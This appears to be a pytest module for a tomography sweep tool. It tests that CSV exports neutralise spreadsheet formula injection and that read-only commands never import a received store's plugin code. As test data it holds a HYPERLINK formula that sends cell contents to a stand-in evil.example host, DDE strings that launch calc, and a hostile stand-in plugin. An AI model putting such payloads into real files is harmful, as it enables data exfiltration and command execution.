"""A store received from someone else, as a hostile sender would make it: its strings never
become spreadsheet formulas, and its plugins never run in a command that only reads it.

Each case asserts the exit status, the one line (no traceback), and that nothing committed
was lost or changed. The CLI runs in-process through its entry point (``main``).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
import sys
from pathlib import Path

import pytest
import trial_hooks
import zarr
from sweep_support import run_cli, tiny_study

from tomosweep.results import SweepStore
from tomosweep.results.spreadsheet import FORMULA_STARTS, safe_cell
from tomosweep.sweep import study_from_dict
from tomosweep.sweep.api import run_study

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _tree(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and p.name != ".tomosweep.lock"
    }


def _committed(path: Path) -> list:
    with SweepStore.open(path) as opened:
        return [(r.method, r.cell, dict(r.params), r.nrmse, r.status) for r in opened.records()]


@pytest.fixture(scope="module")
def finished(client, tmp_path_factory):
    """A finished tiny study (synthetic trials), copied by each test that edits it."""
    path = tmp_path_factory.mktemp("received") / "s.zarr"
    run_study(study_from_dict(tiny_study()), path, client=client, trial_fn=trial_hooks.synthetic_trial)
    return path


@pytest.fixture()
def poisoned(finished, tmp_path):
    """The study as a hostile sender returns it: a stop reason and trial strings that are formulas."""
    path = tmp_path / "received.zarr"
    shutil.copytree(finished, path)
    group = zarr.open_group(path, mode="r+")
    states = dict(group.attrs["optimiser"])
    key = next(k for k in states if k.startswith("fused/"))
    states[key] = {**states[key], "stopped": FORMULA}
    group.update_attributes({"optimiser": states})
    meta = group["trials/meta"]
    first = json.loads(str(meta[0]))
    meta[0] = json.dumps({**first, "worker": "+cmd|' /C calc'!A0", "error": "@SUM(1+1)*cmd|' /C calc'!A0"})
    return path


# ------------------------------------------------------------------ CSV cells are text, never formulas


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_string_that_starts_a_formula_gets_a_quote(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", [-1.5, -3, 0.25, "fused", "", None, "a=b", "1-2"])
def test_numbers_and_plain_strings_stay_as_they_are(value):
    assert safe_cell(value) == value


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            if cell.startswith("-"):  # only a negative number may start with a minus
                float(cell)


def test_status_csv_of_a_received_store_has_no_formula(poisoned, capsys):
    before = _tree(poisoned)
    code, out, err = run_cli(["status", poisoned, "--format", "csv"], capsys)
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    _no_formula(rows)
    stopped = rows[0].index("stopped")
    assert any(row[stopped] == "'" + FORMULA for row in rows[1:])
    assert _tree(poisoned) == before  # status only reads


def test_status_json_keeps_the_received_string_as_it_is(poisoned, capsys):
    code, out, err = run_cli(["status", poisoned, "--format", "json"], capsys)
    assert code == 0, err
    assert FORMULA in {row["stopped"] for row in json.loads(out)}  # JSON is data, not a spreadsheet


def test_export_csvs_of_a_received_store_have_no_formula(poisoned, tmp_path, capsys):
    committed = _committed(poisoned)
    code, out, err = run_cli(["export", poisoned, "--out", tmp_path / "out"], capsys)
    assert code == 0, err
    best = list(csv.reader(io.StringIO((tmp_path / "out" / "best_params.csv").read_text())))
    trials = list(csv.reader(io.StringIO((tmp_path / "out" / "trials.csv").read_text())))
    _no_formula(best)
    _no_formula(trials)
    assert any("'" + FORMULA in row for row in best)
    header = trials[0]
    assert trials[1][header.index("worker")] == "'+cmd|' /C calc'!A0"
    assert trials[1][header.index("error")].startswith("'@SUM")
    assert _committed(poisoned) == committed


def test_negative_numbers_in_an_export_stay_numbers(tmp_path):
    import pandas as pd

    from tomosweep.results.spreadsheet import write_csv

    frame = pd.DataFrame({"method": ["-fused", "sirt"], "lambda_tv": [-0.5, 2.0], "n": [-3, 4]})
    write_csv(frame, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv")
    assert list(back["lambda_tv"]) == [-0.5, 2.0] and list(back["n"]) == [-3, 4]
    assert list(back["method"]) == ["'-fused", "sirt"]


# ------------------------------------------------------------------ plugins cannot end, hijack or sneak in

PLUGIN = """
from tomosweep.solvers import sirt_per_element
from tomosweep.sweep.methods import Method, Param, register


def sirt_half(cell, params, device):
    return sirt_per_element(cell.chem_projector, cell.chem, n_iter=int(params["n_iter"]), relaxation=0.5, device=device)


register(Method("sirt_half", (Param("n_iter", "int", 10, 2, 50, "log", "SIRT iterations"),), sirt_half, "SIRT, 0.5"))
"""

# what a hostile sender puts where the plugin module was: it would leave a mark, print and exit
HOSTILE = """
import pathlib, sys
pathlib.Path({marker!r}).write_text("imported")
print("THE PLUGIN RAN")
sys.exit(0)
"""

STUDY = """
name = "plugged"
seed = 2
[plugins]
modules = ["{module}"]
[phantom]
name = "nanocubes"
size = 16
[acquisition]
n_haadf = [5]
n_chem = [3]
[methods.sirt]
n_iter = {{ low = 2, high = 30, prior = "log" }}
[budget]
trials_per_cell = 2
initial_points = 2
"""


def _errors(code, out, err, *, status: int = 2) -> str:
    """The one ``error:`` line (and the lines it lists under it), no traceback, the exit status."""
    text = out + err
    assert code == status, text
    assert "Traceback" not in text
    assert sum(line.startswith("error:") for line in err.splitlines()) == 1, text
    assert "continue with" not in text
    return err


@pytest.fixture()
def forget_plugins():
    """Leave the process's registries and modules as they were (plugins register on import)."""
    from tomosweep.cluster.backends import BACKENDS
    from tomosweep.sweep.methods import METHODS

    before = [(registry, dict(registry.items())) for registry in (METHODS, BACKENDS)]
    modules = set(sys.modules)
    yield
    for registry, items in before:
        for name in set(registry) - set(items):
            del registry[name]
        for name, item in items.items():
            if registry[name] is not item:
                registry[name] = item
    for name in set(sys.modules) - modules:
        if name.startswith(("received_plugin", "stopping_plugin", "hijacking_plugin", "talking_")):
            del sys.modules[name]


def _plugin_study(tmp_path: Path, module: str, body: str) -> Path:
    (tmp_path / f"{module}.py").write_text(body)
    (tmp_path / "study.toml").write_text(STUDY.format(module=module))
    return tmp_path / "study.toml"


@pytest.mark.parametrize(
    ("body", "said"),
    [
        ("import sys\nsys.exit(0)\n", "called sys.exit(0) while being imported"),
        ("import sys\nsys.exit(3)\n", "called sys.exit(3) while being imported"),
        ("raise KeyboardInterrupt\n", "raised KeyboardInterrupt while being imported"),
        ("raise SystemExit('bye')\n", "called sys.exit('bye') while being imported"),
    ],
)
def test_a_plugin_that_ends_the_program_on_import_is_one_error(
    tmp_path, monkeypatch, capsys, forget_plugins, body, said
):
    study = _plugin_study(tmp_path, "stopping_plugin", body)
    monkeypatch.syspath_prepend(str(tmp_path))
    code, out, err = run_cli(["run", study, "--store", tmp_path / "s.zarr", "-q"], capsys)
    text = _errors(code, out, err)
    assert f"plugin module 'stopping_plugin' {said}" in text
    assert "fix the module or remove it from [plugins] modules" in text
    assert not (tmp_path / "s.zarr").exists()


@pytest.mark.parametrize(
    "body",
    [
        "from tomosweep.sweep.methods import METHODS, Method, register\n"
        "register(Method('fused', METHODS['fused'].params, lambda cell, params, device: None, 'not fused'))\n",
        "from tomosweep.sweep.methods import METHODS, Method\n"
        "METHODS['fused'] = Method('fused', METHODS['fused'].params, lambda cell, params, device: None, 'not fused')\n",
        "from tomosweep.sweep.methods import METHODS\ndel METHODS['fused']\n",
    ],
    ids=["register", "assign", "delete"],
)
def test_a_plugin_cannot_replace_a_built_in_method(tmp_path, monkeypatch, capsys, forget_plugins, body):
    from tomosweep.sweep.methods import METHODS

    fused = METHODS["fused"]
    study = _plugin_study(tmp_path, "hijacking_plugin", body)
    monkeypatch.syspath_prepend(str(tmp_path))
    code, out, err = run_cli(["run", study, "--store", tmp_path / "s.zarr", "-q"], capsys)
    text = _errors(code, out, err)
    assert "'fused' is a built-in Method of tomosweep; a plugin cannot replace it" in text
    assert METHODS["fused"] is fused and METHODS.origin("fused") == {"source": "built-in"}
    assert not (tmp_path / "s.zarr").exists()


def test_a_plugin_cannot_replace_a_built_in_backend(tmp_path, monkeypatch, capsys, forget_plugins):
    from tomosweep.cluster.backends import BACKENDS

    slurm = BACKENDS["slurm"]
    body = "from tomosweep.cluster.backends import Backend, register\nregister(Backend('slurm', 'os:system', 1.0))\n"
    study = _plugin_study(tmp_path, "hijacking_plugin", body)
    monkeypatch.syspath_prepend(str(tmp_path))
    code, out, err = run_cli(["run", study, "--store", tmp_path / "s.zarr", "-q"], capsys)
    assert "'slurm' is a built-in Backend of tomosweep; a plugin cannot replace it" in _errors(code, out, err)
    assert BACKENDS["slurm"] is slurm


def _dist(site: Path, name: str, module: str, body: str) -> None:
    """An installed distribution (a module and its .dist-info) whose entry point is the module."""
    site.mkdir(exist_ok=True)
    (site / f"{module}.py").write_text(body)
    info = site / f"{name}-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text(f"[tomosweep.methods]\n{module} = {module}\n")


def test_an_entry_point_that_exits_or_prints_is_left_out_and_says_why(tmp_path, monkeypatch, capsys, forget_plugins):
    from tomosweep.plugins import Registry
    from tomosweep.sweep.methods import Method

    _dist(tmp_path / "site", "stopping-dist", "stopping_plugin_ep", "import sys\nsys.exit(4)\n")
    _dist(tmp_path / "site", "talking-dist", "talking_plugin_ep", "print('hello from a plugin')\n")
    monkeypatch.syspath_prepend(str(tmp_path / "site"))
    fresh = Registry("tomosweep.methods", Method, name_of=lambda m: m.name)  # as a new process has it
    assert "stopping_plugin_ep" not in fresh
    assert "called sys.exit(4) while being imported" in fresh.unknown("stopping_plugin_ep")
    assert capsys.readouterr().out == ""  # what a plugin prints goes to the log, not into a command's output


def test_the_store_records_where_each_method_came_from(plugged):
    path, module_file = plugged
    with SweepStore.open(path) as opened:
        sources = opened.method_sources()
    assert sources["sirt"] == {"source": "built-in", "param_kinds": {"n_iter": "int"}}
    assert sources["sirt_half"] == {
        "source": "module",
        "module": "received_plugin",
        "path": str(module_file.resolve()),
        "sha256": hashlib.sha256(module_file.read_bytes()).hexdigest(),
        "param_kinds": {"n_iter": "int"},
    }


def test_an_entry_points_origin_is_its_distribution_and_version(tmp_path, monkeypatch, forget_plugins):
    from plugin_support import install

    from tomosweep.plugins import Registry
    from tomosweep.sweep.methods import Method

    monkeypatch.syspath_prepend(str(install(tmp_path / "site")))
    fresh = Registry("tomosweep.methods", Method, name_of=lambda m: m.name)
    assert fresh.origin("raw_sirt") == {
        "source": "entry point",
        "distribution": "tomosweep-plugin-example",
        "version": "0.1.0",
        "entry_point": "tomosweep.methods: raw_sirt = tomosweep_plugin_example:METHOD",
    }


@pytest.fixture(scope="module")
def plugged_once(client, tmp_path_factory):
    """A finished study of a [plugins] module's method, made where the module was importable."""
    from tomosweep.sweep.methods import METHODS

    folder = tmp_path_factory.mktemp("plugged")
    (folder / "received_plugin.py").write_text(PLUGIN)
    sys.path.insert(0, str(folder))
    try:
        methods = {"sirt_half": {"n_iter": {"low": 2, "high": 20, "prior": "log"}}, "sirt": {}}
        study = study_from_dict(tiny_study(plugins={"modules": ["received_plugin"]}, methods=methods))
        run_study(study, folder / "s.zarr", client=client, trial_fn=trial_hooks.synthetic_trial)
    finally:
        sys.path.remove(str(folder))
        sys.modules.pop("received_plugin", None)
        if "sirt_half" in METHODS:
            del METHODS["sirt_half"]  # a new process, as the store's receiver runs it, knows nothing of it
    return folder / "s.zarr", folder / "received_plugin.py"


@pytest.fixture()
def plugged(plugged_once):
    return plugged_once


@pytest.fixture()
def received(plugged_once, tmp_path, monkeypatch):
    """The plugin study as received: the module it names is on the path, and hostile."""
    path = tmp_path / "received.zarr"
    shutil.copytree(plugged_once[0], path)
    marker = tmp_path / "the_plugin_ran"
    (tmp_path / "mods").mkdir()
    (tmp_path / "mods" / "received_plugin.py").write_text(HOSTILE.format(marker=str(marker)))
    monkeypatch.syspath_prepend(str(tmp_path / "mods"))
    monkeypatch.delitem(sys.modules, "received_plugin", raising=False)
    return path, marker


def _untouched(received, before) -> None:
    path, marker = received
    assert not marker.exists() and "received_plugin" not in sys.modules
    assert _tree(path) == before


@pytest.mark.parametrize("fmt", ["json", "csv", "table"])
def test_status_never_imports_a_received_stores_plugin(received, capsys, fmt):
    before = _tree(received[0])
    code, out, err = run_cli(["status", received[0], "--format", fmt], capsys)
    assert code == 0, err
    assert "THE PLUGIN RAN" not in out + err and "Traceback" not in out + err
    if fmt == "json":
        assert {row["method"] for row in json.loads(out)} == {"sirt_half", "sirt"}
    elif fmt == "csv":
        assert {row["method"] for row in csv.DictReader(io.StringIO(out))} == {"sirt_half", "sirt"}
    _untouched(received, before)


def test_check_never_imports_a_received_stores_plugin(received, capsys):
    before = _tree(received[0])
    code, out, err = run_cli(["check", received[0]], capsys)
    assert code == 0, out + err
    assert out.strip() == f"{received[0]}: healthy"
    _untouched(received, before)


def test_export_never_imports_a_received_stores_plugin(received, tmp_path, capsys):
    before = _tree(received[0])
    code, out, err = run_cli(["export", received[0], "--out", tmp_path / "out", "--cell", "5,3"], capsys)
    assert code == 0, err
    assert (tmp_path / "out" / "objective_sirt_half_5x3.png").is_file()  # the GP's view, from the recorded kinds
    _untouched(received, before)


def test_check_of_an_older_plugin_store_says_the_plugins_code_would_be_needed(received, capsys):
    group = zarr.open_group(received[0], mode="r+")
    group.attrs.pop("method_sources")  # as a store made before stores recorded their methods
    before = _tree(received[0])
    committed = _committed(received[0])
    code, out, err = run_cli(["check", received[0]], capsys)
    assert code == 1 and "Traceback" not in out + err
    lines = out.strip().splitlines()
    assert len(lines) == 1, out
    assert (
        "the stored search states were not checked: method 'sirt_half' comes from a plugin (received_plugin)"
        in (lines[0])
    )
    assert "`tomosweep resume` imports it" in lines[0]
    code, out, err = run_cli(["status", received[0], "--format", "json"], capsys)
    assert code == 0 and {row["method"] for row in json.loads(out)} == {"sirt_half", "sirt"}  # needs no kind
    _untouched(received, before)
    assert _committed(received[0]) == committed
